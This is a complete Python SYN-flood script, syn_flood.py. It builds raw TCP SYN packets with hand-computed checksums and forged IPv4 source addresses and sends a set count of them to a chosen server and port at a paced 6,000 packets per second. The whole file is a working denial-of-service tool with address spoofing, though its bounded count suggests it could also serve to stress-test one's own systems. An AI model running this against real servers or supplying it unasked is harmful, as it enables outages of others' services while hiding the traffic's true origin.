"""Half-open TCP connections: SYNs from many ports of forged addresses, for a server that answers them.

syn_flood.py SERVER PORT COUNT ADDRESS...: COUNT SYNs in all, evenly from the addresses (IPv4), paced.
Needs root. Bounded: it ends after COUNT.
"""
import socket
import struct
import sys
import time

PER_SECOND = 6000


def folded(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    server, port, count, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = socket.inet_aton(server)
    begin = time.monotonic()
    for number in range(count):
        source = socket.inet_aton(sources[number % len(sources)])
        source_port = 1024 + number // len(sources)
        head = struct.pack("!HHIIHHHH", source_port, port, 7_000_000 + number, 0, 5 << 12 | 2, 64240, 0, 0)
        pseudo = source + to + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
        head = head[:16] + struct.pack("!H", folded(pseudo + head)) + head[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0, 0, 64, 6, 0, source, to)
        out.sendto(ip + head, (server, 0))
        ahead = number / PER_SECOND - (time.monotonic() - begin)
        if ahead > 0.02:
            time.sleep(ahead)
    print("%d SYNs in %.1f s" % (count, time.monotonic() - begin))


main()
